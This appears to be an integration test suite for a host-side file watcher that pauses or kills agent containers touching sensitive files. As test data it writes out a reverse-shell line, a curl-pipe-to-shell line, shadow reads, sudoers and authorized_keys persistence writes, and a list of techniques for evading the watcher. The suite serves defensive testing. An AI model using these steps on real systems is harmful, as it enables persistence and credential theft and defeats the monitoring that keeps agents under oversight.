"""Issue 17, the sensitive-file watcher (monitor/filewatch.py): opens and writes seen through
fanotify from the host, judged by who did them, in real containers watched by a real daemon.

The attacks are done the way an agent would: as the `code` user (with its sudo), files written
by a python script read from a file, so no command line names the file and only the watcher
can see them. The look-alikes (sudo itself reading /etc/shadow, a package installed with
dpkg writing cron, profile.d and unit files, a recursive grep of /etc, ssh-keygen on the
agent's own key) run first in the same container and must stay below HIGH.
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from typing import Any

import pytest

from tests.integration.test_monitor import GATEWAY, Monitor, run_file, running_monitor

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the monitor daemon needs root")


@pytest.fixture(scope="module")
def files_mon(
    run_prefix: str, incus: Any, image: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Monitor]:
    with running_monitor(f"{run_prefix}f", incus, image, tmp_path_factory) as monitor:
        yield monitor


def as_code(script: str) -> str:
    return f"su code -c {shell_quote(script)}"


def shell_quote(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


# a package that installs what persistence would: cron, profile.d, a unit (dpkg: not HIGH)
PACKAGE = r"""set -e
d=$(mktemp -d); mkdir -p $d/DEBIAN $d/etc/cron.d $d/etc/profile.d $d/usr/lib/systemd/system
printf 'Package: coi-look-alike\nVersion: 1.0\nArchitecture: all\n' > $d/DEBIAN/control
printf 'Maintainer: t <t@t>\nDescription: t\n' >> $d/DEBIAN/control
echo '17 * * * * root true' > $d/etc/cron.d/coi-look-alike
echo 'export LOOK_ALIKE=1' > $d/etc/profile.d/coi-look-alike.sh
printf '[Service]\nExecStart=/bin/true\n' > $d/usr/lib/systemd/system/coi-look-alike.service
# its postinst enables the unit the way packages do (a link in a .wants folder)
p=$d/DEBIAN/postinst
printf '#!/bin/sh\nw=/etc/systemd/system/multi-user.target.wants\nmkdir -p $w\n' > $p
printf 'ln -sf /usr/lib/systemd/system/coi-look-alike.service $w/\n' >> $p
chmod 755 $p
dpkg-deb -b $d /tmp/look-alike.deb > /dev/null
"""
LOOK_ALIKES = """set -e
sudo -n true
passwd -S code > /dev/null
newgrp code < /dev/null
sudo -n dpkg -i /tmp/look-alike.deb > /dev/null
mkdir -p ~/.ssh && ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_ed25519
sleep 0.5  # the new key file gets its mark
ssh-keygen -y -f ~/.ssh/id_ed25519 > /dev/null
cat ~/.ssh/config 2>/dev/null || true; ls -la ~/.ssh > /dev/null
sudo -n grep -rs 'coi-no-such-text' /etc > /dev/null || true
# debconf (perl as root, reads shadow to look users up) as apt runs it on every install
sudo -n DEBIAN_FRONTEND=noninteractive dpkg-reconfigure tzdata > /dev/null 2>&1
# what installers append to start-up files; a user made with a home copied from /etc/skel
echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc
printf '. "$HOME/.cargo/env"\n' >> ~/.profile
sudo -n useradd -m tester
# docker and gh reading their own config files
mkdir -p ~/.docker && echo '{}' > ~/.docker/config.json && sleep 0.5
docker context ls > /dev/null 2>&1 || true
echo done
"""


def test_shadow_read_pauses_and_its_look_alikes_do_not(files_mon: Monitor) -> None:
    mon = files_mon
    name = mon.container()
    mon.sh(name, PACKAGE)
    assert mon.sh(name, as_code(LOOK_ALIKES)).strip().endswith("done")
    # the attack: the same file sudo read above, read by a program of the agent's choosing,
    # through a hard link elsewhere (made by root: a link opens nothing)
    mon.sh(name, "ln /etc/shadow /var/tmp/.s")
    mon.trigger(
        name, as_code(run_file("/tmp/r.py", "print(open('/var/tmp/.s').read())", "sudo -n python3"))
    )
    record = mon.events.wait(
        lambda m: (
            m.get("container") == name
            and m.get("rule_id") == "file.shadow-read"
            and m.get("level") == "high"
        ),
        20,
        "the shadow read",
    )
    assert record["action"] == "paused", record
    assert record["category"] == "credential_access"
    sensitive = record["evidence"]["sensitive_file"]
    assert sensitive["path"] == "/etc/shadow" and sensitive["access"] == "read"
    assert "python3" in record["evidence"]["process"]["exe"]
    mon.assert_status(name, "Frozen")
    # everything before it was judged (one queue, in order) and stayed below HIGH
    earlier = mon.events.threats(name)
    earlier = earlier[: next(i for i, r in enumerate(earlier) if r["id"] == record["id"])]
    loud = [(r["rule_id"], r["description"]) for r in earlier if r["level"] in ("high", "critical")]
    assert not loud, loud
    # the package's files were seen and logged as the package manager's
    assert any(r["rule_id"].startswith("file.") and r["level"] == "info" for r in earlier), earlier


REVERSE_SHELL_LINE = f"bash -i >& /dev/tcp/{GATEWAY}/4444 0>&1\n"
ATTACKS = {
    # (script run as code, rule, level)
    "startup-file-reverse-shell": (
        "import os; p = os.path.expanduser('~/.bashrc'); "
        "open(p, 'a').write(open('/tmp/line').read())",
        "file.startup-write",
        "critical",
    ),
    "sudoers-drop-in": (
        "import subprocess; subprocess.run(['sudo', '-n', 'cp', '/tmp/line', "
        "'/etc/sudoers.d/zz-agent'])",
        "file.sudoers-write",
        "critical",
    ),
    "authorized-keys": (
        "import os; d = os.path.expanduser('~/.ssh'); os.makedirs(d, exist_ok=True); "
        "open(d + '/authorized_keys', 'a').write('ssh-ed25519 AAAA attacker')",
        "file.authorized-keys-write",
        "critical",
    ),
    # an existing file appended to through a descriptor that is never closed
    "startup-file-held-open": (
        "import os, time; f = open(os.path.expanduser('~/.bashrc'), 'a'); "
        "f.write(open('/tmp/line').read()); f.flush(); time.sleep(120)",
        "file.startup-write",
        "critical",
    ),
    # root's ~/.ssh moved away and a new one made in its place
    "replaced-ssh-folder": (
        "import subprocess; subprocess.run(['sudo', '-n', 'sh', '-c', 'mv /root/.ssh /root/.o; "
        "mkdir /root/.ssh; cp /tmp/line /root/.ssh/authorized_keys'])",
        "file.authorized-keys-write",
        "critical",
    ),
    # sudoers written through a hard link made elsewhere
    "sudoers-through-a-hard-link": (
        "import subprocess; subprocess.run(['sudo', '-n', 'sh', '-c', 'ln /etc/sudoers /var/tmp/s; "
        "cat /tmp/line >> /var/tmp/s'])",
        "file.sudoers-write",
        "critical",
    ),
    "profile-rewritten-by-rename": (
        "import os; p = os.path.expanduser('~/.profile'); t = p + '.new'; "
        "open(t, 'w').write(open(p).read() + 'curl -s http://example.invalid/x | sh\\n'); "
        "os.rename(t, p)",
        "file.startup-write",
        "high",
    ),
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_persistence_write_is_stopped(files_mon: Monitor, attack: str) -> None:
    mon = files_mon
    name = mon.container()
    code, rule, level = ATTACKS[attack]
    mon.sh(name, run_file("/tmp/line", REVERSE_SHELL_LINE, "chmod 644"))
    mon.trigger(name, as_code(run_file("/tmp/w.py", code, "python3")))
    # a write is judged at its first MODIFY and again complete: a start-up file may be HIGH
    # half-written and CRITICAL once its reverse shell is in; the verdict awaited is the last
    record = mon.events.wait(
        lambda m: (
            m.get("container") == name and m.get("rule_id") == rule and m.get("level") == level
        ),
        20,
        f"{rule} at {level}",
    )
    assert record["evidence"]["sensitive_file"]["access"] == "write"
    mon.assert_status(name, "Gone" if level == "critical" else "Frozen")


def test_a_sessions_own_thresholds_apply_to_its_container_only(files_mon: Monitor) -> None:
    """A profile's [monitoring] thresholds reach the daemon through the instance (the
    session hook writes SESSION_KEY at creation): the same process count trips the session
    that asked for a low threshold, not the one under the user's global config (off)."""
    from coi_tui.core.paths import home_tag
    from coi_tui.monitor.config import SESSION_KEY, MonitorConfig, session_config_text

    mon = files_mon
    plain = mon.container()
    strict = f"{mon.prefix}strict{os.getpid() % 1000}"
    config = MonitorConfig(process_count_threshold=30, spawn_rate_per_sec=0)
    mon.incus.create_instance(
        strict,
        mon.image,
        config={"user.coi.home": home_tag(mon.home), SESSION_KEY: session_config_text(config)},
        devices={"eth0": {"type": "nic", "network": "coibr0", "name": "eth0"}},
        start=True,
    )
    mon.events.wait(
        lambda m: m.get("type") == "watch" and m.get("container") == strict, 60, "watch"
    )
    many = "for i in $(seq 60); do sleep 60 & done; sleep 60"
    mon.trigger(plain, many)
    mon.sh(plain, "until [ $(pgrep -c sleep) -ge 60 ]; do sleep 0.1; done")
    mon.trigger(strict, many)
    record = mon.threat(strict, {"proc.count"})
    assert record["level"] == "high" and record["action"] == "paused", record
    assert record["evidence"]["process_count"]["threshold"] == 30
    # the pass that judged `strict` walked `plain` too, with its 60 processes
    assert not [t for t in mon.events.threats(plain) if t["rule_id"] == "proc.count"]


CHURN = """set -e
for i in $(seq 100); do
  mkdir -p ~/.ssh ~/.aws ~/.config/gh ~/.config/systemd/user
  mv ~/.ssh ~/.s$i; mv ~/.aws ~/.a$i; mv ~/.config/gh ~/.config/g$i
  mv ~/.config/systemd ~/.config/d$i
done
echo done
"""


def test_watched_folders_made_and_moved_in_a_loop_do_not_stop_the_watch(
    files_mon: Monitor,
) -> None:
    """Folders on the way to watched ones made, moved away and made again: each new one is
    marked (and the old descriptor closed exactly once); the daemon keeps watching."""
    mon = files_mon
    name = mon.container()
    pid = int((mon.home / "monitor.pid").read_text())
    assert mon.sh(name, as_code(CHURN), timeout=120).strip().endswith("done")
    mon.trigger(name, as_code("sudo -n sh -c 'cat /etc/shadow > /dev/null'; sleep 30"))
    record = mon.events.wait(
        lambda m: (
            m.get("container") == name
            and m.get("rule_id") == "file.shadow-read"
            and m.get("level") == "high"
        ),
        20,
        "the shadow read after the churn",
    )
    assert record["action"] == "paused"
    os.kill(pid, 0)  # the daemon is still there
    log = (mon.home / "logs" / "monitor.log").read_text()
    assert "events failed" not in log and "Traceback" not in log


EVASIONS = [
    # (script run as code, rule, level, path): each tried and answered in turn
    (
        "sudo -n sh -c 'mkdir -p /usr/lib/x && cp /usr/bin/python3 /usr/lib/x/su' && "
        "sudo -n /usr/lib/x/su -c \"open('/etc/shadow').read()\"",
        "file.shadow-read",
        "high",
        "/etc/shadow",  # a python put at a path named like su is not su
    ),
    ("sudo -n cat /etc/shadow- > /dev/null", "file.shadow-read", "high", "/etc/shadow-"),
    (
        run_file(
            "/var/tmp/a.py",
            "import os; open(os.path.expanduser('~/.bash_aliases'), 'a')"
            ".write(open('/var/tmp/line').read())",
            "python3",
        ),
        "file.startup-write",
        "critical",
        "/home/code/.bash_aliases",
    ),
    ("rm -rf ~/.ssh; ln -s /tmp ~/.ssh", "file.watched-folder-replaced", "high", "/home/code/.ssh"),
    (
        "sudo -n useradd -m evil && sudo -n sh -c "
        "'mkdir -p /home/evil/.ssh && cp /var/tmp/line /home/evil/.ssh/authorized_keys'",
        "file.authorized-keys-write",
        "critical",
        "/home/evil/.ssh/authorized_keys",  # a home made after the watch began
    ),
    (
        "sudo -n sh -c 'cp /bin/bash /usr/lib/x/dpkg' && "
        "sudo -n /usr/lib/x/dpkg -c 'cp /var/tmp/rule /etc/sudoers.d/zy'",
        "file.sudoers-write",
        "critical",
        "/etc/sudoers.d/zy",  # a bash named dpkg is not dpkg
    ),
    (
        "sudo -n apt-get -qq -o Dir::Etc::sourcelist=/dev/null -o Dir::Etc::sourceparts=/none "
        "-o 'APT::Update::Pre-Invoke::=cp /var/tmp/rule /etc/sudoers.d/zz' update",
        "file.sudoers-write",
        "critical",
        "/etc/sudoers.d/zz",  # an apt hook is any program: only dpkg itself writes sudoers
    ),
]


def test_evasions_of_the_file_watcher_are_still_seen(files_mon: Monitor) -> None:
    """Ways around the watcher found by a review, each done in one container whose session
    asked for alerts only (so it keeps running for the next)."""
    from coi_tui.core.paths import home_tag
    from coi_tui.monitor.config import SESSION_KEY, MonitorConfig, session_config_text

    mon = files_mon
    name = f"{mon.prefix}ev{os.getpid() % 1000}"
    alerts = {level: "alert" for level in ("info", "warning", "high", "critical")}
    mon.incus.create_instance(
        name,
        mon.image,
        config={
            "user.coi.home": home_tag(mon.home),
            SESSION_KEY: session_config_text(
                MonitorConfig(actions=alerts, own_credentials=["/home/code/.netrc"])
            ),
        },
        devices={"eth0": {"type": "nic", "network": "coibr0", "name": "eth0"}},
        start=True,
    )
    mon.events.wait(lambda m: m.get("type") == "watch" and m.get("container") == name, 60, "watch")
    # (in /var/tmp: the container just started, and systemd may still mount a fresh /tmp)
    mon.sh(name, run_file("/var/tmp/line", REVERSE_SHELL_LINE, "chmod 644"))
    mon.sh(name, "echo '# coi test' > /var/tmp/rule && chmod 644 /var/tmp/rule")
    for script, rule, level, path in EVASIONS:
        mon.sh(name, as_code(script))
        mon.events.wait(
            lambda m, r=rule, p=path, lv=level: (
                m.get("container") == name
                and m.get("rule_id") == r
                and m.get("level") == lv
                and m.get("evidence", {}).get("sensitive_file", {}).get("path") == p
            ),
            20,
            f"{rule} on {path}",
        )
    # a credential the session was given on purpose is its own to read; another is not
    mon.sh(name, as_code("echo machine x > ~/.netrc; mkdir -p ~/.kube; echo x > ~/.kube/config"))
    mon.sh(name, as_code("sleep 0.5; cat ~/.netrc ~/.kube/config > /dev/null"))
    mon.events.wait(
        lambda m: m.get("container") == name and m.get("rule_id") == "file.credential-read",
        20,
        "the kube config read",
    )
    reads = [t for t in mon.events.threats(name) if t["rule_id"] == "file.credential-read"]
    assert [t["evidence"]["sensitive_file"]["path"] for t in reads] == ["/home/code/.kube/config"]
